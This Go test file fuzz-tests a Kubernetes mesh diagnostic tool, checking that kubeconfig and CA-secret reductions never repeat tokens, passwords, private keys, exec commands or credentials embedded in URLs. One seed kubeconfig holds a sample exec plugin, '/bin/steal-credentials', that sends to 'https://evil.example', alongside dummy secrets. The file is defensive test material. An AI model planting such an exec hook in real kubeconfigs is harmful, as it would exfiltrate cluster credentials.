package cluster

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/url"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/client-go/tools/clientcmd"

	"github.com/meshdoctor/meshdoctor/internal/pki"
)

// secretsOf lists what a kubeconfig carries that must never come out of its
// reduction: tokens, passwords, key data, exec commands, file paths, and
// auth-provider settings.
func secretsOf(data []byte) []string {
	cfg, err := clientcmd.Load(data)
	if err != nil {
		return nil
	}
	var out []string
	for _, u := range cfg.AuthInfos {
		out = append(out, u.Token, u.Password, u.TokenFile, u.ClientKey, u.ClientCertificate, string(u.ClientKeyData))
		if kb := bytes.TrimSpace(u.ClientKeyData); len(kb) > 0 {
			out = append(out, base64.StdEncoding.EncodeToString(u.ClientKeyData))
		}
		if u.Exec != nil {
			out = append(out, u.Exec.Command)
			out = append(out, u.Exec.Args...)
			for _, e := range u.Exec.Env {
				out = append(out, e.Value)
			}
		}
		if u.AuthProvider != nil {
			for _, v := range u.AuthProvider.Config {
				out = append(out, v)
			}
		}
	}
	for _, c := range cfg.Clusters {
		raw := c.Server
		if !strings.Contains(raw, "://") {
			raw = "https://" + raw // as client-go reads it
		}
		if u, err := url.Parse(raw); err == nil && u.User != nil {
			out = append(out, u.User.String()) // user:password in the URL
			if p, ok := u.User.Password(); ok {
				out = append(out, p)
			}
		}
	}
	var keep []string
	for _, s := range out {
		// Short values (a one-letter arg, "x") would be found anywhere by
		// chance; a credential is longer.
		if len(strings.TrimSpace(s)) >= 8 {
			keep = append(keep, s)
		}
	}
	return keep
}

func kubeconfigSeed(user string) []byte {
	return fmt.Appendf(nil, `apiVersion: v1
kind: Config
clusters:
- cluster:
    server: https://user:hunter2hunter2@remote.example:6443/?token=abcdefgh12345678
    certificate-authority-data: %s
  name: remote
contexts:
- context: {cluster: remote, user: istio-reader}
  name: remote
current-context: remote
users:
- name: istio-reader
  user:
%s
`, base64.StdEncoding.EncodeToString([]byte("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")), user)
}

// FuzzParseRemoteKubeconfig: whatever a remote secret's kubeconfig holds,
// its reduction (the only part that reaches an inventory, a snapshot or a
// report) carries no token, password, key, exec command or file path.
func FuzzParseRemoteKubeconfig(f *testing.F) {
	ca, err := pki.NewRoot("fuzz", pki.Options{})
	if err != nil {
		f.Fatal(err)
	}
	jwt := "eyJhbGciOiJSUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"system:serviceaccount:istio-system:istio-reader","exp":2000000000}`)) + ".c2lnbmF0dXJlc2lnbmF0dXJl"
	for _, u := range []string{
		"    token: " + jwt,
		"    token: not-a-jwt-but-a-long-secret-token",
		"    client-certificate-data: " + base64.StdEncoding.EncodeToString([]byte(ca.CertPEM())) + "\n    client-key-data: " + base64.StdEncoding.EncodeToString([]byte(ca.KeyPEM())),
		"    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/steal-credentials\n      args: [\"--send-to\", \"https://evil.example\"]\n      env: [{name: SECRET, value: env-secret-value}]",
		"    tokenFile: /home/operator/.kube/secret-token",
		"    client-key: /home/operator/.kube/key.pem\n    client-certificate: /home/operator/.kube/cert.pem",
		"    username: admin\n    password: correct-horse-battery",
		"    auth-provider:\n      name: oidc\n      config: {id-token: " + jwt + ", refresh-token: refresh-secret-value}",
	} {
		f.Add("cluster-2", kubeconfigSeed(u))
	}
	f.Add("x", []byte("{"))
	f.Fuzz(func(t *testing.T, clusterID string, data []byte) {
		rk := parseRemoteKubeconfig(clusterID, data)
		rk.raw = nil // kept in memory for the access probe only; never serialised
		out, err := json.Marshal(rk)
		if err != nil {
			t.Fatal(err)
		}
		text := strings.ReplaceAll(string(out), `"clusterID":`+mustJSON(t, clusterID), "")
		for _, s := range secretsOf(data) {
			if strings.Contains(text, s) || strings.Contains(text, strings.Trim(mustJSON(t, s), `"`)) {
				t.Fatalf("the reduction of a kubeconfig repeats %q: %s", s, out)
			}
		}
		if strings.Contains(text, "PRIVATE KEY") {
			t.Fatalf("the reduction holds a private key: %s", out)
		}
	})
}

func mustJSON(t *testing.T, s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// FuzzCABundle: whatever a CA secret's fields hold, the bundle keeps only
// CERTIFICATE blocks, and says what else there was by type name only.
func FuzzCABundle(f *testing.F) {
	ca, err := pki.NewRoot("fuzz", pki.Options{})
	if err != nil {
		f.Fatal(err)
	}
	f.Add([]byte(ca.CertPEM()+ca.KeyPEM()), []byte(ca.CertPEM()), false)
	f.Add([]byte(ca.KeyPEM()+ca.CertPEM()), []byte("garbage"), true)
	f.Add([]byte("-----BEGIN CERTIFICATE-----\nProc-Type: 4,ENCRYPTED\n\nMIIB\n-----END CERTIFICATE-----\n"), []byte{}, false)
	f.Fuzz(func(t *testing.T, certField, rootField []byte, tlsForm bool) {
		s := &corev1.Secret{Data: map[string][]byte{"ca-cert.pem": certField, "cert-chain.pem": certField, "root-cert.pem": rootField, "ca-key.pem": []byte(ca.KeyPEM())}}
		if tlsForm {
			s.Data = map[string][]byte{"tls.crt": certField, "ca.crt": rootField, "tls.key": []byte(ca.KeyPEM())}
		}
		b := caBundle(s)
		for name, field := range map[string]string{"caCert": b.CACert, "certChain": b.CertChain, "root": b.Root} {
			rest := []byte(field)
			for {
				var block *pem.Block
				block, rest = pem.Decode(rest)
				if block == nil {
					break
				}
				if block.Type != "CERTIFICATE" || len(block.Headers) > 0 {
					t.Fatalf("%s holds a %q block (headers %v)", name, block.Type, block.Headers)
				}
			}
			if len(bytes.TrimSpace(rest)) > 0 {
				t.Fatalf("%s holds text outside PEM blocks: %q", name, rest)
			}
		}
		out, err := json.Marshal(b)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(out, []byte("PRIVATE KEY-----")) || bytes.Contains(out, []byte(strings.Split(ca.KeyPEM(), "\n")[1])) {
			t.Fatalf("the bundle holds the key: %s", out)
		}
	})
}

func TestCABundleKeepsCertificatesOnly(t *testing.T) {
	ca, err := pki.NewRoot("t", pki.Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := &corev1.Secret{Data: map[string][]byte{
		"ca-cert.pem": []byte(ca.CertPEM() + ca.KeyPEM()), "ca-key.pem": []byte(ca.KeyPEM()),
		"cert-chain.pem": []byte(ca.CertPEM()), "root-cert.pem": []byte(ca.CertPEM() + "trailing text\n"),
	}}
	b := caBundle(s)
	if b.CACert != ca.CertPEM() || strings.Contains(b.CACert, "PRIVATE") {
		t.Errorf("caCert = %q, want the certificate alone", b.CACert)
	}
	if b.KeyCheck != "match" {
		t.Errorf("keyCheck = %q", b.KeyCheck)
	}
	want := []string{"ca-cert.pem also holds a PRIVATE KEY block", "root-cert.pem also holds text that is not PEM"}
	if strings.Join(b.Dropped, "|") != strings.Join(want, "|") {
		t.Errorf("dropped = %q, want %q", b.Dropped, want)
	}
}

func TestRemoteSecretKeepsOnlyAllowedAnnotations(t *testing.T) {
	s := &corev1.Secret{}
	s.Name = "istio-remote-secret-x"
	s.Annotations = map[string]string{"networking.istio.io/cluster": "x",
		"kubectl.kubernetes.io/last-applied-configuration": `{"data":{"x":"dG9rZW46IHNlY3JldA=="}}`, "other": "v"}
	rs := remoteSecret(s)
	if len(rs.Annotations) != 1 || rs.Annotations["networking.istio.io/cluster"] != "x" {
		t.Errorf("annotations = %v, want networking.istio.io/cluster only", rs.Annotations)
	}
}

func TestSafeServerDropsCredentialsInTheURL(t *testing.T) {
	for in, want := range map[string]string{
		"https://a:b@host:6443/x?token=t#f": "https://host:6443/x",
		"https://10.0.0.1:6443":             "https://10.0.0.1:6443",
		"::bad":                             "(server URL does not parse)",
		"user:pw@host:6443":                 "host:6443",
		"10.0.0.1:6443":                     "10.0.0.1:6443",
	} {
		if got := safeServer(in); got != want {
			t.Errorf("safeServer(%q) = %q, want %q", in, got, want)
		}
	}
}
